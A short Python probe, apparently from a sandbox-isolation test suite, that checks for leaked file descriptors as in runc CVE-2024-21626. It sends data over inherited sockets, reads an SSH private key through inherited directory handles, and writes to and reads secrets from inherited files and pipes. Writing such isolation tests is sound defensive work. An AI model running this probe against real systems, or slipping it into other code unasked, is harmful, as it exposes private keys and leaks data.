# Uses descriptors that the launcher left open: files, folders, sockets, pipes (CVE-2024-21626, runc; CVE-2016-9962).
# range: with=descriptors
import os
import socket
import stat
from contextlib import suppress

from common import finish, hit, secret

for name in os.listdir("/proc/self/fd"):
    number = int(name)
    if number < 3:
        continue
    with suppress(OSError):
        kind = stat.S_IFMT(os.fstat(number).st_mode)
        if kind == stat.S_IFSOCK:
            socket.socket(fileno=number).sendall(b"stolen over an inherited socket")
            hit(f"socket {number}")
        elif kind == stat.S_IFDIR:
            if "range" not in os.readlink(f"/proc/self/fd/{number}"):
                inner = os.open(".ssh/id_ed25519", os.O_RDONLY, dir_fd=number)
                hit(f"folder {number}: {os.read(inner, 40)!r}")
        else:
            with suppress(OSError):
                os.write(number, b"written through an inherited descriptor")
            with suppress(OSError):
                if secret(os.pread(number, 100, 0)):
                    hit(f"file {number}")
            if kind == stat.S_IFIFO and secret(os.read(number, 100)):
                hit(f"pipe {number}")
finish()
